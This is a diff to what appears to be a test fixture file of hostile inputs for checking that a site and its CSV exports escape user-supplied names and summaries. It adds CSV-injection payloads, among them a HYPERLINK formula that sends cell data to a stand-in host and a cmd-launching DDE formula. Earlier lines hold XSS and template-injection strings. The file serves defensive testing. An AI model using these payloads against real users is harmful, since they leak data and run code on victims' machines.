@@ -32,10 +32,12 @@ TEMPLATE_TRICKS = (
 
 # One line, no < or >: what a name or title may hold. Entities that decode to tags, Markdown and
 # template syntax, quotes that could close an attribute, bidi and zero-width characters.
+# Each starts with a spreadsheet formula (CSV injection): the CSV downloads must make it inert.
 NAME = (
+    "=HYPERLINK(\"https://exfil.example/?d=\"&A1,\"Open\") "
     "Hostile & {# &amp;lt;img src=x onerror=alert(1)&amp;gt; &lt;b&gt; \"dq\" 'sq` "
     "\\* _x_ #h | ~~~ [m](https://pwned.example/m) javascript:alert(2) "
-    "{{ config.site_name }} {% include 'mkdocs.yml' %} \u202eLTR\u202c zero\u200bwidth " + "W" * 80
+    "{{ config.site_name }} {% include 'mkdocs.yml' %} \u202eLTR\u202c zero\u200bwidth " + "W" * 40
 )
 
 # Plain text that may hold raw HTML: shown as text, never as markup.
@@ -55,7 +57,7 @@ TEXT = "\n\n".join((
 
 # 20 to 300 characters: a practice summary.
 SUMMARY = (
-    "Hostile summary <script>window.__pwned='summary'</script><img src=x onerror=alert(1)> "
+    "@SUM(1+1)*cmd|' /C calc'!A0 Hostile summary <script>window.__pwned='summary'</script><img src=x onerror=alert(1)> "
     "<iframe src=https://pwned.example/s></iframe> {{ config.site_name }} {% include 'x' %} &amp;lt;b&amp;gt;"
 )
 
